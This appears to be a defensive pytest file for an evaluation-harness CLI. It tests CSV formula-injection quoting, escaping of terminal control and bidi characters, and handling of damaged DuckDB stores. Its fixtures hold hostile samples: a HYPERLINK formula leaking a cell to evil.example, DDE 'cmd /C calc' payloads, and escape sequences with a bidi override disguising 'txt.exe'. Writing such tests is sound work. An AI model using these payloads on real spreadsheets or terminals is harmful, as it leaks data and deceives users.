"""What the commands print and export is safe to open: formulas in CSV cells stay text, control and bidi characters in
names reach the terminal as visible escapes, and a damaged store is one line that says how to recover, with the file
left as it was."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalharness import textsafe
from leaderboards.board import TEXT_FIELDS
from leaderboards.render import read_csv
from tests.leaderboards.lbstore import add_metric, add_run, make_store
from tests.reliability.helpers import cli_env, invoke

SPEC = [("p1", "m1", "base", "first", "second"), ("p2", "m1", "base", "tie", "tie"),
        ("p1", "m2", "base", "second", "first"), ("p2", "m2", "base", "first", "second")]

# What must never reach a terminal raw: C0 controls but the newline, DEL, C1 controls, bidi embeddings, overrides,
# isolates and marks (written out here, not taken from the module under test).
RAW = ({chr(c) for c in range(0x20)} - {"\n"}) | {chr(c) for c in range(0x7F, 0xA0)} | set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
# A label that clears the screen, sets the window title, rings the bell and turns the rest of the line around.
EVIL = "m1\x1b[2J\x1b]0;owned\x07\u202etxt.exe\u2066\x9b31m"
SHOWN = r"m1\x1b[2J\x1b]0;owned\x07\u202etxt.exe\u2066\x9b31m"


def raw_controls(text: str) -> set[str]:
    return {c for c in text if c in RAW}


# ------------------------------------------------------------------------------------- 4. CSV formula injection

FORMULAS = {"m1": '=1+HYPERLINK("http://evil.example/?leak="&A1,"click")', "m2": "@SUM(1+1)*cmd|' /C calc'!A0",
            "base": "-2+3+cmd|' /C calc'!A0"}


def test_csv_cells_that_start_a_formula_are_text_and_negative_numbers_stay_numbers(tmp_path):
    store = make_store(tmp_path / "s.duckdb", SPEC, labels=FORMULAS, judge="+j")
    add_metric(store, "m1", "margin", -0.5, ci=(-1.25, 0.25))
    board = invoke(["leaderboard", "--format", "csv", "--output", "board.csv", "--bootstrap", "0", "--store",
                    "s.duckdb"], tmp_path)
    assert board.exit_code == 0, board.output
    text = (tmp_path / "board.csv").read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    by_model = {r["model"]: r for r in rows}
    for model, label in FORMULAS.items():
        assert by_model[model]["label"] == "'" + label  # a spreadsheet shows it as text
    assert {r["judge"] for r in rows} == {"'+j"}
    m1 = by_model["m1"]
    assert (m1["margin"], m1["margin_ci_low"], m1["margin_ci_high"]) == ("-0.5", "-1.25", "0.25")  # still numbers
    back = {r["model"]: r for r in read_csv(text, TEXT_FIELDS)}  # and the export still round-trips
    assert {m: back[m]["label"] for m in FORMULAS} == FORMULAS and back["m1"]["margin"] == -0.5
    assert back["m1"]["judge"] == "+j"

    report = invoke(["judges", "report", "--format", "csv", "--store", "s.duckdb"], tmp_path)
    assert report.exit_code == 0, report.output
    cells = [c for row in csv.reader(io.StringIO(report.stdout)) for c in row]
    assert "'+j" in cells and "+j" not in cells


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.eE aZ\"|!"), max_size=12))
def test_any_text_survives_the_csv_quoting_and_never_starts_a_formula(s):
    cell = textsafe.csv_cell(s)
    assert textsafe.csv_value(cell) == s
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ------------------------------------------------------------------------------------------ 8. damaged stores

HEADERS = 3 * 4096  # a DuckDB file starts with its main header and two database headers of 4 KiB, then the blocks


def _damage(path: Path, table: str | None) -> bytes:
    """Flip bytes in the middle of the block that holds ``table``'s first column (None: the catalog's block, read
    when the file is opened); return the damaged file's bytes."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        block_size = con.execute("SELECT block_size FROM pragma_database_size()").fetchone()[0]
        if table is None:
            block = min(r[0] for r in con.execute("PRAGMA metadata_info").fetchall())
        else:
            block = con.execute(f"SELECT min(block_id) FROM pragma_storage_info('{table}') WHERE block_id >= 0"
                                ).fetchone()[0]
    finally:
        con.close()
    data = bytearray(path.read_bytes())
    at = HEADERS + block * block_size + block_size // 2
    # Two different 8-byte words: DuckDB's block checksum would not see the same word written twice.
    data[at:at + 16] = bytes(b ^ p for b, p in zip(data[at:at + 16], b"damaged block!!!"))
    path.write_bytes(bytes(data))
    return bytes(data)


def _damaged_store(tmp_path: Path) -> Path:
    store = make_store(tmp_path / "s.duckdb", SPEC)
    add_run(store, "m1", "run-m1", "m1-run", 2, "dpo", {"beta": 0.1})
    return Path(store.path)


COMMANDS = {
    "runs": (["runs"], "runs"),
    "leaderboard": (["leaderboard", "--bootstrap", "0"], "judgments"),
    "judge": (["judge", "--judge", "oracle", "--models", "m1", "--baseline", "base", "--prompts", "set",
               "--no-progress"], "generations"),
}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("when", ["open", "query"])
def test_a_damaged_store_is_one_line_naming_the_file_and_the_way_back_and_is_left_as_it_was(tmp_path, command, when):
    args, table = COMMANDS[command]
    path = _damaged_store(tmp_path)
    damaged = _damage(path, None if when == "open" else table)
    if when == "query":  # the file still opens: the damage is met by the command's first read of that table
        duckdb.connect(str(path), read_only=True).close()
    else:
        with pytest.raises(duckdb.Error, match="Corrupt database file"):
            duckdb.connect(str(path), read_only=True)
    result = invoke([*args, "--store", "s.duckdb"], tmp_path)
    assert result.exit_code == 2, result.output
    err = result.stderr.strip()
    assert "\n" not in err and err.startswith("error: s.duckdb: the store file is damaged (Corrupt database file"), err
    assert "backup" in err and "EXPORT DATABASE" in err and "IMPORT DATABASE" in err
    assert path.read_bytes() == damaged and sorted(p.name for p in tmp_path.iterdir()) == ["s.duckdb"]


def test_a_file_that_is_not_a_store_is_one_line_at_once_even_under_a_directory_named_blocks(tmp_path):
    # "blocks" holds "lock": the path, quoted in DuckDB's message, once made this wait out the lock timeout and
    # report a lock that nobody held.
    (tmp_path / "blocks").mkdir()
    path = tmp_path / "blocks" / "s.duckdb"
    path.write_bytes(b"id,label\n1,not a database\n" * 200)
    for args in (["runs"], ["leaderboard"], ["judge", "--judge", "oracle", "--models", "a", "--baseline", "b"]):
        result = invoke([*args, "--store", "blocks/s.duckdb"], tmp_path, {"EVALHARNESS_LOCK_TIMEOUT": "1"})
        assert result.exit_code == 2, result.output
        err = result.stderr.strip()
        assert err.startswith("error: blocks/s.duckdb: the store file is not a DuckDB database"), err
        assert "locked" not in err and "backup" in err
    assert path.read_bytes() == b"id,label\n1,not a database\n" * 200


# ---------------------------------------------------------------------------- 9. control and bidi characters


@pytest.fixture
def evil_store(tmp_path):
    store = make_store(tmp_path / "s.duckdb", SPEC, labels={"m1": EVIL}, judge="j\x1b[8m")
    add_run(store, "m1", "run-evil", f"run{EVIL}", 2, "dpo\u202e", {"beta": 0.1}, base_model="tiny\x07llama")
    return store


def test_runs_prints_names_with_visible_escapes(tmp_path, evil_store):
    result = invoke(["runs", "--store", "s.duckdb"], tmp_path)
    assert result.exit_code == 0, result.output
    assert not raw_controls(result.stdout), result.stdout
    assert f"run{SHOWN}" in result.stdout and r"dpo\u202e" in result.stdout and r"tiny\x07llama" in result.stdout


@pytest.mark.parametrize("fmt", ["table", "md"])
def test_leaderboard_and_judges_report_print_names_with_visible_escapes(tmp_path, evil_store, fmt):
    board = invoke(["leaderboard", "--format", fmt, "--bootstrap", "0", "--store", "s.duckdb"], tmp_path)
    assert board.exit_code == 0, board.output
    assert not raw_controls(board.stdout), board.stdout
    if fmt == "table":
        assert SHOWN in board.stdout and "j\\x1b[8m" in board.stdout
    else:  # Markdown backslashes a backslash and a bracket
        assert r"m1\\x1b\[2J\\x1b\]0;owned\\x07\\u202etxt.exe" in board.stdout and r"j\\x1b\[8m" in board.stdout
    report = invoke(["judges", "report", "--format", fmt, "--store", "s.duckdb"], tmp_path)
    assert report.exit_code == 0, report.output
    assert not raw_controls(report.stdout) and "j\\" in report.stdout and "x1b" in report.stdout, report.stdout


def test_html_and_json_hold_no_raw_controls_and_json_keeps_the_value(tmp_path, evil_store):
    for fmt in ("html", "json"):
        result = invoke(["leaderboard", "--format", fmt, "--output", f"board.{fmt}", "--bootstrap", "0", "--store",
                         "s.duckdb"], tmp_path)
        assert result.exit_code == 0, result.output
    page = (tmp_path / "board.html").read_text()
    assert not raw_controls(page) and SHOWN in page
    exported = (tmp_path / "board.json").read_text()
    assert not raw_controls(exported)
    assert EVIL in {r["label"] for r in json.loads(exported)["rows"]}  # the escapes are JSON's: same value


def test_the_judge_command_prints_its_summary_and_board_with_visible_escapes(tmp_path, evil_store):
    result = invoke(["judge", "--judge", "oracle", "--models", EVIL, "--baseline", "base", "--prompts", "set",
                     "--no-progress", "--store", "s.duckdb"], tmp_path)
    assert result.exit_code == 0, result.output
    assert "oracle: 2 pairs" in result.stdout and SHOWN in result.stdout
    assert not raw_controls(result.output), result.output


def test_errors_quote_names_with_visible_escapes(tmp_path):
    result = invoke(["leaderboard", "--store", f"s{EVIL}.duckdb"], tmp_path)
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: s{SHOWN}.duckdb: no store here yet") and not raw_controls(result.stderr)


class _Line:
    def line(self):
        return f"{EVIL}: 1 prompts"

    def lines(self):
        return [f"table of {EVIL}\nrow 2", f"note on {EVIL}"]

    def detail_lines(self):
        return [f"  detail {EVIL}"]


# Each command's library call, replaced by one whose report names the evil label: what is checked is the command's
# own printing (the libraries' real lines are covered above through runs, leaderboard and judge).
SUMMARIES = {
    "train": (["train", "--loss", "dpo", "--model", "tiny-llama"],
              {"evalharness.training.train_command": lambda *a, **k: iter([f"run abc ({EVIL}): 2 steps"])}),
    "generate": (["generate", "-c", "tiny-llama"], {"evalharness.generate.generate": lambda *a, **k: [_Line()]}),
    "eval": (["eval", "-c", "tiny-llama"], {"evalharness.evaluation.evaluate": lambda *a, **k: [_Line()]}),
    "diagnose": (["diagnose", "gradients", "-c", "tiny-llama"], {"evalharness.diagnose.run": lambda *a, **k: _Line()}),
    "import": (["import", "alpaca-eval", "."], {"evalharness.importers.import_alpaca_eval": lambda *a, **k: _Line()}),
}


@pytest.mark.parametrize("command", SUMMARIES)
def test_summary_lines_of_every_command_print_names_with_visible_escapes(tmp_path, monkeypatch, command):
    args, patches = SUMMARIES[command]
    for target, fake in patches.items():
        monkeypatch.setattr(target, fake)
    result = invoke([*args, "--store", "s.duckdb"], tmp_path)
    assert result.exit_code == 0, result.output
    assert SHOWN in result.stdout and not raw_controls(result.stdout), result.stdout


def test_run_prints_the_plan_with_visible_escapes(tmp_path):
    # Run and experiment names are checked; an endpoint's model name is free text, and the plan prints the judge spec.
    toml = tmp_path / "exp.toml"
    spec = f"llm:model={EVIL},base_url=http://127.0.0.1:9/v1"
    toml.write_text('name = "exp"\n[defaults]\nmodel = "tiny-llama"\nmax_steps = 1\n[[runs]]\n'
                    'name = "sft"\nloss = "sft"\n[generate]\nprompts = "synthetic"\nlimit = 1\n'
                    f'[judge]\njudges = [{json.dumps(spec)}]\nbaseline = "base"\n')
    result = invoke(["run", "exp.toml", "--dry-run", "--store", "s.duckdb"], tmp_path)
    assert result.exit_code == 0, result.output
    assert SHOWN in result.stdout and not raw_controls(result.stdout), result.stdout


def test_csv_on_a_terminal_shows_escapes_but_a_file_keeps_the_text(tmp_path, evil_store):
    leader, follower = pty.openpty()
    args = [sys.executable, "-m", "evalharness", "leaderboard", "--format", "csv", "--bootstrap", "0", "--store",
            "s.duckdb"]
    with subprocess.Popen(args, cwd=tmp_path, env=cli_env(), stdout=follower, stderr=subprocess.PIPE) as proc:
        os.close(follower)
        out = b""
        while True:
            ready, _, _ = select.select([leader], [], [], 60)
            try:
                chunk = os.read(leader, 65536) if ready else b""
            except OSError:  # the follower side closed: the process has ended
                chunk = b""
            if not chunk:
                break
            out += chunk
        assert proc.wait(60) == 0, proc.stderr.read()
    os.close(leader)
    shown = out.decode()
    assert SHOWN in shown and not raw_controls(shown.replace("\r\n", "\n")), shown
    to_file = invoke(["leaderboard", "--format", "csv", "--output", "board.csv", "--bootstrap", "0", "--store",
                      "s.duckdb"], tmp_path)
    assert to_file.exit_code == 0, to_file.output
    assert EVIL in {r["label"] for r in read_csv((tmp_path / "board.csv").read_text(), TEXT_FIELDS)}


def test_the_floor_helper_escapes_every_control_and_bidi_character_and_nothing_else():
    import doctest

    assert doctest.testmod(textsafe).failed == 0
    every = "".join(sorted(RAW | {"\n"}))
    escaped = textsafe.escape_controls(every)
    assert not raw_controls(escaped) and "\n" not in escaped
    assert escaped.count("\\") == len(every)  # one visible escape per character, none dropped
    plain = "dpo β=0.1 — ✓ 你好 émoji \U0001f469\u200d\U0001f4bb"  # a joiner inside an emoji is no control
    assert textsafe.escape_controls(plain) == plain
    assert textsafe.escape_lines("a\x1bb\nc") == "a\\x1bb\nc"
